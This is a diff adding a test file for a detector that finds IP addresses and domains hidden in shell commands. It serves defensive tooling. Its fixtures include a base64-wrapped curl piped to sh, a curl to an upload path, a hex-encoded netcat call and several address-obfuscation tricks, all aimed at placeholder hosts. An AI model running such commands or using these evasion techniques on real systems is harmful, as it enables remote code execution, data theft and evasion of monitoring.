@@ -1,0 +1,36 @@
+import { describe, expect, it } from 'vitest';
+import { findMentions } from '../../src/core/decode-text.ts';
+
+const encode = (text: string): string => Buffer.from(text).toString('base64');
+
+describe('addresses and names in a command', () => {
+  it.each([
+    ['stand literally', 'curl http://203.0.113.77:8080/x', '203.0.113.77', 'literal'],
+    ['are domains', 'ssh ops@relay.example -p 443', 'relay.example', 'literal'],
+    ['hide in base64', `echo ${encode('curl http://203.0.113.140/up')} | base64 -d | sh`, '203.0.113.140', 'base64'],
+    [
+      'hide in base64 twice',
+      `echo ${encode(encode('curl http://203.0.113.140/upload/settings'))}`,
+      '203.0.113.140',
+      'base64',
+    ],
+    ['hide in hex', `echo ${Buffer.from('nc 203.0.113.9 53').toString('hex')} | xxd -r -p`, '203.0.113.9', 'hex'],
+    [
+      'hide in \\x escapes',
+      `printf '${[...'203.0.113.9'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'`,
+      '203.0.113.9',
+      'hex',
+    ],
+    ['hide in URL escapes', 'curl http%3A%2F%2Fpool%2Eexample%2Fx', 'pool.example', 'url'],
+    ['are decimal numbers', 'curl http://3405803853/', '203.0.113.77', 'decimal-ip'],
+    ['are hex numbers', 'curl http://0xCB00714D/', '203.0.113.77', 'hex-ip'],
+    ['are octal quads', 'ping 0313.00.0161.0115', '203.0.113.77', 'octal-ip'],
+    ['are put together from variables', 'H=203.0.113; curl http://$H.77/', '203.0.113.77', 'variable'],
+  ])('%s', (_, command, value, encoding) => {
+    expect(findMentions(command)).toContainEqual(expect.objectContaining({ value, encoding }));
+  });
+
+  it('are not versions, file names or arithmetic', () => {
+    expect(findMentions('python3 setup.py --version 1.2.3.4.5 && cat notes.md main.c 999.1.1.1')).toEqual([]);
+  });
+});
